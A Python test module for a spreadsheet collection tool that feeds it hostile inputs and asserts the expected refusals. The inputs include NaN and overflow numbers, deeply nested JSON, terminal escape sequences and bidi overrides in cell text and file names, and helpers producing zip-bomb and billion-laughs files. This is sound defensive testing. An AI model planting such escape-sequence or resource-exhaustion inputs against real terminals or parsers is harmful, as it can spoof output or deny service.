"""The hostile-input catalogue: broken and hostile returns, records files and file systems, tried
as an attacker would, each with the refusal or the finding it must give.

Every case is one row of ``CASES``: a builder that writes the hostile input under ``kit.inp`` (and
may mount a tiny or read-only file system, or patch a function) and returns the command line; the
exit code; the finding codes that must be reported; fragments of the output that must appear.
The runner (``test_case``) runs the command in-process through ``sheettool.cli.main`` (a few cases
through a real subprocess) and asserts, for every case:

- the exit code, and each expected code (printed as ``[X123]``, in ``--json`` output, or in the
  findings of a ledger the command wrote) and message fragment;
- no traceback and no "予期しない内部エラー" on stderr; ``check --json`` output is strict JSON;
- every input byte-identical afterwards (nothing overwritten or lost);
- no temporary file (``.tmp-*``, ``.sheettool-*``) left anywhere under the case's folder.

A case may add its own assertions (``then``). To add a case: write a builder, append a ``Case``.
Codes are those of sheettool/messages.py.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import errno
import functools
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import badfiles
import openpyxl
import pytest
from cycle import run_cli, tree
from helpers import ROOT, seed_record, seed_records
from test_check import Parts
from test_filesafety import REFUSED, WARNED

from sheettool import jsontext, signing, spec
from sheettool.check import check_file
from sheettool.collect.ledger import DB_NAME, Ledger, workspace_for
from sheettool.generate import generate, output_path
from sheettool.records import Item
from sheettool.xlsx import meta as meta_mod
from sheettool.xlsx.read import Book
from sheettool.xlsx.safety import package_from_bytes

LAYOUT = spec.load()
PLACE = LAYOUT.place(2022)
SHEET_PART = "xl/worksheets/sheet1.xml"
META_PART = "xl/worksheets/sheet3.xml"
_CODE = re.compile(r"\[([A-Z]\d{3})\]")


def cell(path: str) -> str:
    return PLACE.at(path).cell


# --------------------------------------------------------------------------- the kit


@dataclass
class Outcome:
    rc: int
    out: str
    err: str
    codes: set[str]

    @property
    def text(self) -> str:
        return self.out + self.err


@dataclass
class Kit:
    """What a builder works with: folders, the generated templates, mounts and patches."""

    root: Path
    templates: dict[str, Path]
    monkeypatch: pytest.MonkeyPatch
    stack: contextlib.ExitStack
    env: dict[str, str] = field(default_factory=dict)
    world: Any = None  # a part 3–8 row's World (set by its builder)

    @property
    def inp(self) -> Path:
        return self.root / "in"

    @property
    def out(self) -> Path:
        return self.root / "out"

    def template(self, no: str = "088") -> bytes:
        return self.templates[no].read_bytes()

    def write(self, name: str, data: bytes | str) -> Path:
        path = self.inp / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
        return path

    def mutant(self, name: str, edits: dict[str, Callable[[bytes], bytes]], no: str = "088") -> Path:
        """The generated template of project ``no`` with parts rewritten, as ``in/<name>``."""
        return self.write(name, rezip(self.template(no), edits))

    def records(self, name: str, records: Any) -> Path:
        return self.write(name, json.dumps(records, ensure_ascii=False))

    def mount(self, where: Path, *, size: str = "64k", read_only: bool = False) -> bool:
        """A tmpfs at ``where`` (unmounted after the case); False where mounting is not allowed."""
        where.mkdir(parents=True, exist_ok=True)
        options = f"size={size}" + (",ro" if read_only else "")
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)],
                              capture_output=True, check=False)
        if done.returncode != 0:
            return False
        self.stack.callback(subprocess.run, ["umount", "-l", str(where)], check=False)
        return True

    def full_disk(self, where: Path, size: str = "64k") -> None:
        """``where`` on a file system with only ``size`` free (or, without mount, writes that fail)."""
        if not self.mount(where, size=size):
            _patch_enospc(self.monkeypatch, where)

    def read_only(self, where: Path) -> None:
        if not self.mount(where, read_only=True):
            pytest.skip("cannot mount a read-only file system here")


def _patch_enospc(monkeypatch: pytest.MonkeyPatch, where: Path) -> None:
    """Without mount: every output file under ``where`` fails with ENOSPC on its first write."""
    import tempfile

    real = tempfile.mkstemp

    def mkstemp(*args: Any, **kwargs: Any) -> tuple[int, str]:
        if str(kwargs.get("dir", "")).startswith(str(where)):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)


def rezip(data: bytes, edits: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """``data`` with each part named in ``edits`` replaced by ``edit(part bytes)``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            dst.writestr(info.filename, edits[info.filename](body) if info.filename in edits else body)
    return out.getvalue()


def set_cell(ref: str, inner: str, t: str | None = None) -> Callable[[bytes], bytes]:
    """An edit of a sheet part: cell ``ref`` holds ``inner`` (``<v>…</v>``, ``<is>…</is>``) of type ``t``."""
    def edit(body: bytes) -> bytes:
        text = body.decode()
        m = re.search(rf'<c r="{ref}"([^>]*?)(/>|>(.*?)</c>)', text)
        assert m, ref
        attrs = re.sub(r'\st="[^"]*"', "", m.group(1)) + (f' t="{t}"' if t else "")
        return (text[:m.start()] + f'<c r="{ref}"{attrs}>{inner}</c>' + text[m.end():]).encode()
    return edit


def number(path: str, text: str) -> dict[str, Callable[[bytes], bytes]]:
    """The cell of field ``path`` stores the number text ``text`` (as a hostile writer would)."""
    return {SHEET_PART: set_cell(cell(path), f"<v>{text}</v>")}


def typed(path: str, text: str) -> dict[str, Callable[[bytes], bytes]]:
    """The cell of field ``path`` holds the text ``text`` (XML-escaped here; _xHHHH_ is kept)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return {SHEET_PART: set_cell(cell(path), f"<is><t>{escaped}</t></is>", "inlineStr")}


def meta_value(kit: Kit, key: str, inner: str, t: str | None = None) -> dict[str, Callable[[bytes], bytes]]:
    """``_meta``'s value of ``key`` replaced (column B of its row)."""
    book = Book(package_from_bytes("t.xlsx", kit.template()))
    data = book.read_sheet(book.sheet("_meta"))
    row = next(ref[1:] for ref, c in data.cells.items() if ref[0] == "A" and book.value(c) == key)
    return {META_PART: set_cell(f"B{row}", inner, t)}


def defined_name(name: str, target: str) -> dict[str, Callable[[bytes], bytes]]:
    def edit(body: bytes) -> bytes:
        return re.sub(rf'(<definedName name="{name}">)[^<]*'.encode(),
                      lambda m: m.group(1) + target.encode(), body)
    return {"xl/workbook.xml": edit}


def in_place(pattern: bytes, replacement: bytes, part: str = SHEET_PART) -> dict[str, Callable[[bytes], bytes]]:
    return {part: lambda body: re.sub(pattern, replacement, body)}


DEEP = "[" * 100_000 + "]" * 100_000


# --------------------------------------------------------------------------- the case table


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[Kit], list[str]]  # writes the inputs under kit.inp; returns the command line
    exit: int
    codes: tuple[str, ...] = ()  # reported (printed, --json, or in the ledger's findings)
    says: tuple[str, ...] = ()  # fragments of stdout + stderr
    absent: tuple[str, ...] = ()  # codes that must not be reported
    then: Callable[[Kit, Outcome], None] | None = None
    process: bool = False  # through a real subprocess instead of in-process
    env: tuple[tuple[str, str], ...] = ()


CASES: list[Case] = []


def case(id: str, exit: int, codes: tuple[str, ...] = (), says: tuple[str, ...] = (), **kw: Any):  # noqa: A002
    """Decorator: the function is the builder of a new case."""
    def register(build: Callable[[Kit], list[str]]) -> Callable[[Kit], list[str]]:
        CASES.append(Case(id, build, exit, codes, says, **kw))
        return build
    return register


def check(path: Path, *more: str) -> list[str]:
    return ["check", str(path), "--json", *more]


# ---- files that are no workbook, or a hostile one (tests/badfiles.py): check refuses them, exit 2

# check scans every part's prolog first: a DTD pushed past the scan by a long comment is F116 there
_CHECK_SAYS = {badfiles.write_dtd_behind_comment: "F116"}
for _factory, _code, _ in REFUSED:
    CASES.append(Case(f"file-{_factory.__name__.removeprefix('write_')}",
                      lambda kit, f=_factory: check(f(kit.inp)), 2, (_CHECK_SAYS.get(_factory, _code),)))

# ---- workbooks with content that is ignored (macros, links, ActiveX, embedded): a warning; they
# are not our templates, so T201 as well (exit 1)
for _factory, _, _codes in WARNED:
    if _codes:
        CASES.append(Case(f"ignored-{_factory.__name__.removeprefix('write_')}",
                          lambda kit, f=_factory: check(f(kit.inp)), 1, (*_codes, "T201")))

# ---- 1. one file never breaks the store


@case("nan-in-money", 1, ("V302",), says=("「NaN」",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("nan.xlsx", number("costs.2022.budget", "NaN")))


@case("inf-in-indicator", 1, ("V302",), says=("「inf」",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("inf.xlsx", number("indicators.1.2022.target", "inf")))


@case("minus-inf-in-money", 1, ("V302",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("minf.xlsx", number("costs.2022.other", "-inf")))


@case("huge-staff-share", 1, ("S401",), says=("999.99以下",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("fte.xlsx", number("costs.2022.staff_fte", "1.7e308")))


@case("overflow-stored-as-number", 1, ("V302",), says=("「1e309」は数値として大きすぎます",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("e309.xlsx", number("costs.2022.budget", "1e309")))


@case("overflow-typed-as-text", 1, ("V302",), says=("「1E+400」は数値として大きすぎます",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("e400.xlsx", typed("costs.2022.budget", "1E+400")))


@case("true-in-money", 0, ("V301",), says=("論理値「TRUE」を 1 として読みました",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("true.xlsx", {SHEET_PART: set_cell(cell("costs.2022.other"), "<v>1</v>", "b")}))


def _numbers_sane(kit: Kit, outcome: Outcome) -> None:
    """Every record the ledger holds reads back as strict JSON with sane numbers."""
    for db in kit.root.rglob(DB_NAME):
        with contextlib.closing(sqlite3.connect(db)) as conn:
            for (text,) in conn.execute("SELECT record_json FROM submissions WHERE record_json IS NOT NULL"):
                jsontext.loads(text)  # raises on NaN
            assert conn.execute("SELECT count(*) FROM submissions WHERE (record_json IS NOT NULL AND"
                                " NOT json_valid(record_json)) OR NOT json_valid(findings_json)").fetchone()[0] == 0


def _collect(kit: Kit, *more: str) -> list[str]:
    return ["collect", str(kit.inp), "--out", str(kit.out / "m.xlsx"), *more]


@case("collect-nan-and-friends", 1, ("V302", "S401"), then=_numbers_sane)
def _(kit: Kit) -> list[str]:
    kit.mutant("a/nan.xlsx", number("costs.2022.budget", "NaN"))
    kit.mutant("b/fte.xlsx", number("costs.2022.staff_fte", "1.7e308"), no="089")
    kit.mutant("c/inf.xlsx", number("indicators.1.2021.actual", "inf"), no="090")
    kit.write("d/ok.xlsx", kit.template("091"))
    return _collect(kit, "--json", str(kit.out / "m.jsonl"))


def _store_with(kit: Kit, damage: str, *, drop_archive: bool = False) -> list[str]:
    """A real store that holds a damaged row, as an older version wrote it; the file is gone since."""
    kit.write("x/088.xlsx", kit.template("088"))
    store = kit.root / "store"
    rc, out, err = run_cli("collect", kit.inp, "--out", kit.out / "m.xlsx", "--store", store)
    assert rc in (0, 1), out + err
    with contextlib.closing(sqlite3.connect(store / DB_NAME)) as conn:
        sha, text = conn.execute("SELECT sha256, record_json FROM submissions").fetchone()
        record = json.loads(text)
        record["costs"][2]["staff_fte"] = float("nan") if damage == "nan" else 1.7e308
        conn.execute("UPDATE submissions SET record_json = ? WHERE sha256 = ?", (json.dumps(record), sha))
        conn.execute("DELETE FROM meta WHERE key = 'results_checked'")  # as an older version left it
        conn.commit()
    if drop_archive:
        for path in (store / "archive").rglob("*.xlsx"):
            path.unlink()
    (kit.inp / "x" / "088.xlsx").unlink()  # the file was removed from the inbox meanwhile
    kit.write("y/089.xlsx", kit.template("089"))
    return [*_collect(kit), "--store", str(store)]


@case("store-holds-nan", 0, absent=("C802",), then=_numbers_sane)
def _(kit: Kit) -> list[str]:
    return _store_with(kit, "nan")  # checked again from the archive: the file is fine


@case("store-holds-1.7e308", 0, then=_numbers_sane)
def _(kit: Kit) -> list[str]:
    return _store_with(kit, "huge")


@case("store-holds-nan-archive-gone", 1, ("C802",), then=_numbers_sane)
def _(kit: Kit) -> list[str]:
    return _store_with(kit, "nan", drop_archive=True)


# ---- 2. one file never stops the batch


@case("style-index-abc", 0)
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("s-abc.xlsx", in_place(rb' s="(\d+)"', rb' s="abc"')))


@case("style-index-negative", 0)
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("s-neg.xlsx", in_place(rb' s="(\d+)"', rb' s="-1"')))


@case("style-index-huge", 0)
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("s-huge.xlsx", in_place(rb' s="(\d+)"', rb' s="99999999999999999999"')))


@case("meta-json-100000-deep", 1, ("T215",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("deep.xlsx", meta_value(kit, "locked_values", f"<is><t>{DEEP}</t></is>", "inlineStr")))


@case("meta-json-nan", 1, ("T215",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("metanan.xlsx", meta_value(kit, "locked_values", '<is><t>{"f_project_name": NaN}</t></is>',
                                                       "inlineStr")))


@case("meta-fiscal-year-0", 1, ("T208",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("fy0.xlsx", meta_value(kit, "fiscal_year", "<v>0</v>")))


@case("meta-fiscal-year-nan", 1, ("T208",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("fynan.xlsx", meta_value(kit, "fiscal_year", "<v>NaN</v>")))


@case("name-at-column-zzzz", 0, ("T221",), says=("ZZZZ$1",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("zzzz.xlsx", defined_name("f_project_name", "マネジメントシート!$ZZZZ$1")))


@case("name-at-row-beyond-excel", 0, ("T221",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("row.xlsx", defined_name("f_costs_2022_budget", "マネジメントシート!$G$99999999999")))


@case("name-garbage", 0, ("T219",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("ref.xlsx", defined_name("f_project_name", "#REF!")))


def _annotated_readable(kit: Kit, outcome: Outcome) -> None:
    copy = kit.out / "annotated.xlsx"
    assert copy.is_file()
    result = check_file(copy)
    assert result.readable and result.record is not None
    assert not any(ch in f.message for f in result.findings for ch in "\x01\x1b")


@case("control-character-in-a-message-then-annotate", 1, ("T214",), says=("abc␁def␛[31m",),
      then=_annotated_readable)
def _(kit: Kit) -> list[str]:
    path = kit.mutant("ctrl.xlsx", typed("project_name", "abc_x0001_def_x001B_[31m"))
    return check(path, "--annotate", str(kit.out / "annotated.xlsx"))


@case("escape-sequence-in-a-number", 1, ("V302",), says=("「12␛[31m」",))
def _(kit: Kit) -> list[str]:
    return check(kit.mutant("esc.xlsx", typed("costs.2022.budget", "12_x001B_[31m")))


@case("bidi-override-in-a-message", 1, ("T214",), says=("\\u202e",))
def _(kit: Kit) -> list[str]:
    return ["check", str(kit.mutant("bidi.xlsx", typed("project_name", "事業\u202eevil")))]


def _one_result_per_file(kit: Kit, outcome: Outcome) -> None:
    files = sorted(p.relative_to(kit.inp).as_posix() for p in kit.inp.rglob("*.xlsx"))
    db = kit.out / "m.sheettool" / DB_NAME
    with contextlib.closing(sqlite3.connect(db)) as conn:
        seen = sorted(r[0] for r in conn.execute("SELECT DISTINCT relpath FROM sightings"))
    assert seen == files


@case("collect-every-breakage-at-once", 1, ("T215", "T208", "T221", "V302", "F112", "F115"),
      then=_one_result_per_file)
def _(kit: Kit) -> list[str]:
    kit.mutant("s-abc.xlsx", in_place(rb' s="(\d+)"', rb' s="abc"'))
    kit.mutant("nan.xlsx", number("costs.2022.budget", "NaN"), no="089")
    kit.mutant("deep.xlsx", meta_value(kit, "locked_values", f"<is><t>{DEEP}</t></is>", "inlineStr"), no="088")
    kit.mutant("fy0.xlsx", meta_value(kit, "fiscal_year", "<v>0</v>"), no="088")
    kit.mutant("zzzz.xlsx", defined_name("f_project_name", "マネジメントシート!$ZZZZ$1"), no="090")
    kit.mutant("ctrl.xlsx", typed("costs.2022.budget", "12_x001B_[31m"), no="091")
    badfiles.write_zip_bomb_sneaky(kit.inp)
    badfiles.write_billion_laughs_sheet(kit.inp)
    for i in range(10):  # enough files for collect's worker processes
        kit.write(f"copies/{i:02d}.xlsx", kit.template(["087", "098"][i % 2]))
    return [*_collect(kit), "--jobs", "2"]


@case("check-crash-is-one-finding", 2, ("F122",), says=("crash.xlsx", "内部データに想定していない値があります"))
def _(kit: Kit) -> list[str]:
    from sheettool.check import tamper

    def boom(ctx: Any) -> None:
        raise ValueError("something nobody foresaw")

    kit.monkeypatch.setattr(tamper, "check_locked", boom)
    return check(kit.write("crash.xlsx", kit.template()))


@case("collect-worker-dies", 1, ("C803",), then=_one_result_per_file)
def _(kit: Kit) -> list[str]:
    import sheettool.check.run as check_run  # collect's workers take check_bytes from here

    real = check_run.check_bytes

    def dies_on_poison(data: bytes, name: str, *args: Any, **kwargs: Any):
        if "poison" in name:
            os._exit(9)  # as a worker killed by the kernel
        return real(data, name, *args, **kwargs)

    kit.monkeypatch.setattr(check_run, "check_bytes", dies_on_poison)
    for i in range(17):
        kit.write(f"f{i:02d}.xlsx", kit.template(["087", "088", "089", "090", "091", "098"][i % 6]))
    kit.mutant("poison.xlsx", typed("purpose", "毒"))
    return [*_collect(kit), "--jobs", "2"]


# ---- 9. faithful text


def _record_of(kit: Kit, outcome: Outcome) -> dict:
    return jsontext.loads(outcome.out)["record"]


@case("typed-x0041-is-text", 0, absent=("T214", "V301"),
      then=lambda kit, o: _assert(_record_of(kit, o)["summary"] == "_x0041_ と _x005F_"))
def _(kit: Kit) -> list[str]:
    # what Excel stores for a typed "_x0041_ と _x005F_": each "_" that starts an escape escaped
    return check(kit.mutant("x0041.xlsx", typed("summary", "_x005F_x0041_ と _x005F_x005F_")))


def _assert(condition: bool) -> None:
    assert condition


def _master_text_once(kit: Kit, outcome: Outcome) -> None:
    book = Book(package_from_bytes("m.xlsx", (kit.out / "m.xlsx").read_bytes()))
    values = {book.value(c) for s in book.sheets if s.name == "一覧" for c in book.read_sheet(s).cells.values()}
    assert "_x0041_事業" in values and "_x005F_x0041_事業" not in values


@case("x0041-in-a-locked-name-round-trips", 0, absent=("T214",), then=_master_text_once)
def _(kit: Kit) -> list[str]:
    record = seed_record("088")
    record["project_name"] = "_x0041_事業"
    src = kit.root / "records.json"  # not in the inbox: collect reads every file there
    src.write_text(json.dumps([record], ensure_ascii=False), encoding="utf-8")
    rc, out, err = run_cli("generate", src, "--out", kit.root / "gen")
    assert rc == 0, out + err
    kit.write("088.xlsx", output_path(kit.root / "gen", record).read_bytes())
    return _collect(kit)


@case("escape-sequence-in-a-file-name-check", 0, process=True)
def _(kit: Kit) -> list[str]:
    return ["check", str(kit.write("\x1b[2J\x1b[31mevil\x07.xlsx", kit.template()))]


@case("escape-sequence-in-a-file-name-empty", 2, ("F105",), says=("␛[2J",), process=True)
def _(kit: Kit) -> list[str]:
    kit.write("\x1b[2J\x1b]0;pwned\x07.xlsx", b"")
    return ["check", str(kit.inp / "\x1b[2J\x1b]0;pwned\x07.xlsx")]


@case("escape-sequence-in-an-inbox", 1, ("F105",), process=True)
def _(kit: Kit) -> list[str]:
    kit.write("\x1b[2J\x1b]0;pwned\x07.xlsx", b"")
    kit.write("ok.xlsx", kit.template())
    return _collect(kit)


def _dash_record(category: str) -> dict:
    record = seed_record("088")
    record["category"] = category
    record["evaluation"]["city_involvement"] = record["evaluation"]["priority"] = None
    return record


def _generate_then_check(kit: Kit, record: dict) -> list[str]:
    src = kit.records("records.json", [record])
    rc, out, err = run_cli("generate", src, "--out", kit.root / "gen")
    assert rc == 0, out + err
    return check(kit.write("back.xlsx", output_path(kit.root / "gen", record).read_bytes()))


@case("dash-set-by-law-round-trips", 0, absent=("R501", "R505"),
      then=lambda kit, o: _assert(_record_of(kit, o)["evaluation"]["priority"] is None))
def _(kit: Kit) -> list[str]:
    return _generate_then_check(kit, _dash_record("法定受託事務"))


@case("dash-only-where-the-law-sets-it", 1, ("R501",))
def _(kit: Kit) -> list[str]:
    return _generate_then_check(kit, _dash_record("自治事務（任意）"))  # a blank stays a blank: 未入力


# ---- 10. resources and the file system


def _temp_files(where: Path) -> set[Path]:
    return {p for p in where.rglob("*") if p.name.startswith((".tmp-", ".sheettool-"))}


def _no_temp_files(where: Path) -> None:
    assert not _temp_files(where)


def _some_written(kit: Kit, outcome: Outcome) -> None:
    written = list((kit.out / "full").rglob("*.xlsx"))
    assert 0 < len(written) < 6, written
    for path in written:
        assert check_file(path).readable
    _no_temp_files(kit.out)


@case("generate-disk-full", 2, ("G607",), says=("ディスクの空き容量が足りません",), then=_some_written)
def _(kit: Kit) -> list[str]:
    kit.full_disk(kit.out / "full", size="64k")
    return ["generate", str(kit.records("records.json", seed_records())), "--out", str(kit.out / "full")]


def _ledger_complete(kit: Kit, outcome: Outcome) -> None:
    with contextlib.closing(sqlite3.connect(kit.root / "store" / DB_NAME)) as conn:
        assert conn.execute("SELECT count(*) FROM submissions").fetchone()[0] == 2
    _no_temp_files(kit.out)


@case("collect-disk-full", 2, says=("ディスクの空き容量が足りません", "台帳に記録済み"), then=_ledger_complete)
def _(kit: Kit) -> list[str]:
    kit.write("a.xlsx", kit.template("088"))
    kit.write("b.xlsx", kit.template("089"))
    kit.full_disk(kit.out / "full", size="60k")
    return ["collect", str(kit.inp), "--out", str(kit.out / "full" / "m.xlsx"), "--store", str(kit.root / "store")]


@case("collect-store-disk-full", 2, says=("台帳", "空き容量"))
def _(kit: Kit) -> list[str]:
    kit.write("a.xlsx", kit.template("088"))
    kit.full_disk(kit.out / "full", size="20k")
    return ["collect", str(kit.inp), "--out", str(kit.out / "m.xlsx"), "--store", str(kit.out / "full")]


@case("generate-read-only", 2, ("G607",), says=("読み取り専用",))
def _(kit: Kit) -> list[str]:
    kit.read_only(kit.out / "ro")
    return ["generate", str(kit.records("records.json", seed_records()[:2])), "--out", str(kit.out / "ro")]


@case("collect-read-only", 2, says=("読み取り専用",))
def _(kit: Kit) -> list[str]:
    kit.write("a.xlsx", kit.template())
    kit.read_only(kit.out / "ro")
    return ["collect", str(kit.inp), "--out", str(kit.out / "ro" / "m.xlsx")]


@case("import-text-read-only", 2, says=("読み取り専用",))
def _(kit: Kit) -> list[str]:
    seed = Path(__file__).parent / "data" / "tsukuba_management_sheets_R4.txt"
    src = kit.write("seed.txt", seed.read_text(encoding="utf-8"))
    kit.read_only(kit.out / "ro")
    return ["import-text", str(src), "--out", str(kit.out / "ro" / "records.json")]


@case("annotate-read-only", 1, ("A703",))
def _(kit: Kit) -> list[str]:
    kit.read_only(kit.out / "ro")
    return check(kit.write("a.xlsx", kit.template()), "--annotate", str(kit.out / "ro" / "a.xlsx"))


def _names_fit(kit: Kit, outcome: Outcome) -> None:
    names = [p for p in (kit.out / "gen").rglob("*.xlsx")]
    assert len(names) == 2  # two long names that differ only after the cut stay two files
    assert all(len(p.name.encode()) <= 255 for p in names)
    assert all(check_file(p).record["project_name"].startswith("非常に") for p in names)


@case("long-project-name", 0, then=_names_fit)
def _(kit: Kit) -> list[str]:
    one, two = seed_record("088"), seed_record("088")
    one["project_name"] = "非常に" + "長" * 95 + "一"
    two["project_name"] = "非常に" + "長" * 95 + "二"
    two["project_no"] = "088"  # the same number: only the names tell them apart
    two["division"] = one["division"]
    return ["generate", str(kit.records("records.json", [one, two])), "--out", str(kit.out / "gen")]


def _others_written(count: int) -> Callable[[Kit, Outcome], None]:
    def then(kit: Kit, outcome: Outcome) -> None:
        assert len(list((kit.out / "gen").rglob("*.xlsx"))) == count
    return then


@case("records-array-100000-deep", 1, ("G601",), says=("入れ子", "2件目"), then=_others_written(2))
def _(kit: Kit) -> list[str]:
    recs = seed_records()
    text = "[" + json.dumps(recs[0], ensure_ascii=False) + ",\n" + DEEP + ",\n" + json.dumps(recs[1], ensure_ascii=False) + "]"
    return ["generate", str(kit.write("deep.json", text)), "--out", str(kit.out / "gen")]


@case("records-lines-100000-deep", 1, ("G601",), says=("入れ子", "2行目"), then=_others_written(1), process=True)
def _(kit: Kit) -> list[str]:
    text = json.dumps(seed_record("088"), ensure_ascii=False) + "\n" + '{"a":' * 50_000 + "1" + "}" * 50_000 + "\n"
    return ["generate", str(kit.write("deep.jsonl", text)), "--out", str(kit.out / "gen")]


@case("records-nan", 1, ("G601",), says=("NaN",), then=_others_written(1))
def _(kit: Kit) -> list[str]:
    good = json.dumps(seed_record("088"), ensure_ascii=False)
    bad = good.replace('"staff_fte": 1.0', '"staff_fte": NaN', 1)
    assert bad != good
    return ["generate", str(kit.write("nan.jsonl", good + "\n" + bad + "\n")), "--out", str(kit.out / "gen")]


@case("expected-records-100000-deep", 1, says=("入れ子",))
def _(kit: Kit) -> list[str]:
    kit.write("a.xlsx", kit.template())
    expected = kit.write("expected.jsonl", json.dumps(seed_record("088"), ensure_ascii=False) + "\n" + DEEP + "\n")
    return [*_collect(kit), "--expected", str(expected)]


@case("rollforward-records-100000-deep", 1, says=("入れ子",))
def _(kit: Kit) -> list[str]:
    src = kit.write("deep.jsonl", json.dumps(seed_record("088"), ensure_ascii=False) + "\n" + DEEP + "\n")
    return ["rollforward", str(src), "--records-only", str(kit.out / "next.json")]


@case("rates-nan", 2, says=("単価ファイル", "NaN"))
def _(kit: Kit) -> list[str]:
    rates = kit.write("rates.json", '{"2022": {"salary_per_fte": NaN, "overtime_per_hour": 2446}}')
    return ["generate", str(kit.records("records.json", seed_records()[:1])), "--out", str(kit.out / "gen"),
            "--rates", str(rates)]


@case("rates-100000-deep", 2, says=("単価ファイル", "入れ子"))
def _(kit: Kit) -> list[str]:
    rates = kit.write("rates.json", '{"2022": ' + DEEP + "}")
    return ["generate", str(kit.records("records.json", seed_records()[:1])), "--out", str(kit.out / "gen"),
            "--rates", str(rates)]


@case("mapping-100000-deep", 2, says=("対応表ファイル", "入れ子"))
def _(kit: Kit) -> list[str]:
    mapping = kit.write("mapping.json", '{"organizations": ' + DEEP + "}")
    return ["rollforward", str(kit.records("records.json", seed_records()[:1])), "--mapping", str(mapping),
            "--records-only", str(kit.out / "next.json")]


@case("sheet-xml-over-the-cap", 2, ("F111",), says=("上限 8.0 MiB",))
def _(kit: Kit) -> list[str]:
    # 16 MB zipped, 46 MiB of sheet XML: within the old limits, it cost 1.3 GB to read
    return check(kit.write("big.xlsx", big_return(kit.template(), 46 * MIB)))


@case("shared-strings-over-the-cap", 2, ("F111",))
def _(kit: Kit) -> list[str]:
    filler = "".join(f"<si><t>{i:x}</t></si>" for i in range(700_000)).encode()
    return check(kit.mutant("sst.xlsx", {"xl/sharedStrings.xml": lambda b: b.replace(b"</sst>", filler + b"</sst>")}))


MIB = 1024 * 1024


@functools.cache
def big_return(template: bytes, extra: int) -> bytes:
    """``template`` with about ``extra`` bytes of empty formatted cells appended to its sheet.

    The cells vary (their style index is random) so the sheet compresses about 20:1, well
    under the 100:1 that marks a zip bomb.
    """
    import random

    rnd = random.Random(1)
    cols = [a + b for a in "ABCDEFGHIJ" for b in "ABCDEFGHIJKLMNOPQRST"]
    rows, size, r = [], 0, 200
    while size < extra:
        row = f'<row r="{r}">' + "".join(f'<c r="{c}{r}" s="{rnd.randrange(99)}"/>' for c in cols) + "</row>"
        rows.append(row)
        size += len(row)
        r += 1
    blob = "".join(rows).encode()
    return rezip(template, {SHEET_PART: lambda b: b.replace(b"</sheetData>", blob + b"</sheetData>", 1)})


# ---- 3.–8. outputs, forgery, active content, the inbox, which file is newer, rollforward
#
# These rows share a base (the seed templates as issued, their records, their 令和5年度
# successors) and a World per case (an inbox, an out folder, the files the case protects);
# each row's ``then`` also checks that every protected file is byte for byte what it was.


def cell_at(path: str, fy: int = 2022) -> str:
    return LAYOUT.place(fy).fields[path].cell


SHEET = LAYOUT.sheet_name
NOS = [r["project_no"] for r in seed_records()]
RATES_NEXT = ROOT / "tests" / "golden" / "tsukuba" / "rates_next.json"


@dataclass
class Base:
    root: Path
    records: Path  # the six seed records (JSON)
    templates: dict[str, Path]  # project → its signed template, as issued
    next_year: dict[str, Path]  # project → its 令和5年度 template (signed), for wrong-year returns


@functools.cache
def _base_of(templates_root: Path) -> Base:
    """The base next to the module's generated templates (built once)."""
    root = templates_root.parent
    records = root / "records.json"
    templates = {r["project_no"]: output_path(root / "t", r) for r in seed_records()}
    rolled = root / "rolled.json"
    if not rolled.is_file():
        rc, out, err = _cli(["rollforward", records, "--records-only", rolled, "--rates", RATES_NEXT,
                             "--out", root / "next"])
        assert rc == 0, out + err
    nxt = {r["project_no"]: output_path(root / "next", r) for r in json.loads(rolled.read_text(encoding="utf-8"))}
    return Base(root, records, templates, nxt)


def base_for(kit: Kit) -> Base:
    """The module's generated templates are ``<folder>/t/<部>/<課>/…``: the base lives in ``<folder>``."""
    return _base_of(kit.templates["088"].parents[2])


def _cli(args: list) -> tuple[int, str, str]:
    return run_cli(*args)


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --------------------------------------------------------------------------- one case's world


@dataclass
class World:
    base: Base
    root: Path
    protected: dict[Path, bytes] = field(default_factory=dict)
    notes: dict[str, object] = field(default_factory=dict)  # what setup tells ``then``

    @property
    def inbox(self) -> Path:
        return self.root / "inbox"

    @property
    def master(self) -> Path:
        return self.root / "out" / "master.xlsx"

    def protect(self, *paths: Path) -> None:
        for path in paths:
            self.protected[path] = path.read_bytes()

    def put(self, no: str, *, data: bytes | None = None, name: str | None = None,
            source: Path | None = None) -> Path:
        """A return of project ``no`` in the inbox (the issued template itself by default)."""
        template = self.base.templates[no]
        dest = self.inbox / template.parent.relative_to(self.base.root / "t") / (name or template.name)
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data if data is not None else (source or template).read_bytes())
        self.protect(dest)
        return dest

